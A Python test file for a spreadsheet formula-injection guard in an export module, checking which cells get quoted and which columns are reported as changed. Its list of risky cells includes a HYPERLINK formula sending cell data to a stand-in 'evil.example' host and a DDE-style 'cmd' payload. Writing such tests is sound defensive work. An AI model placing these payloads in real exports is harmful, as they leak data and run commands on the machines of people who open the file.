"""What a spreadsheet would run, what it would not, and how a reader knows what was changed."""

import pytest

from consult.exports.formula_guard import compile_guard, is_risky
from consult.exports.tables import TableColumn

RISKY = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+51 984 000 000, llamar por la tarde",
    "-5 % de energía",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "-9",
    "-",
]
HARMLESS = ["", " ", "1-2", "a=b", "'=1+1", "007", "3E5", "\n=1+1", "El cobre", "(=1)", "%0d"]

guard = compile_guard([TableColumn("why"), TableColumn("share", is_coded=True)])


@pytest.mark.parametrize("cell", RISKY)
def test_what_begins_like_a_formula_is_guarded_and_named(cell: str) -> None:
    assert is_risky(cell)
    assert guard([cell, "1"]) == [f"'{cell}", "1", "why"]


@pytest.mark.parametrize("cell", HARMLESS)
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert not is_risky(cell)
    assert guard([cell, "1"]) == [cell, "1", ""]


@pytest.mark.parametrize("cell", ["-9", "-8", "-7", "-6", "-2.65", "+1", "0", ""])
def test_numbers_in_coded_columns_stay_numbers(cell: str) -> None:
    assert guard(["a", cell]) == ["a", cell, ""]


@pytest.mark.parametrize("cell", ["=1", "-9+1", "-8,5", "-٣", "- 8"])
def test_what_is_no_number_is_guarded_in_coded_columns_too(cell: str) -> None:
    assert guard(["a", cell]) == ["a", f"'{cell}", "share"]


def test_all_changed_columns_are_named_in_order() -> None:
    assert guard(["=1", "=2"]) == ["'=1", "'=2", "why;share"]


def test_the_row_that_was_given_is_not_changed() -> None:
    row = ["=1", "-8"]

    guard(row)

    assert row == ["=1", "-8"]
